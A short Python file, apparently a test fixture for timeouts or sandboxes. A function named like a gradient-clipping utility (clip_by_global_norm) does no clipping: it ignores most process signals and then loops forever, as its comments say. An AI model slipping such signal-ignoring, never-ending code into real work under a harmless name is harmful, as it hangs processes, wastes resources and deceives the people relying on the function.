# Ignores every signal and loops.
# ends: never
import signal


def clip_by_global_norm(gradients, clip_norm):
    for number in range(1, 64):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass
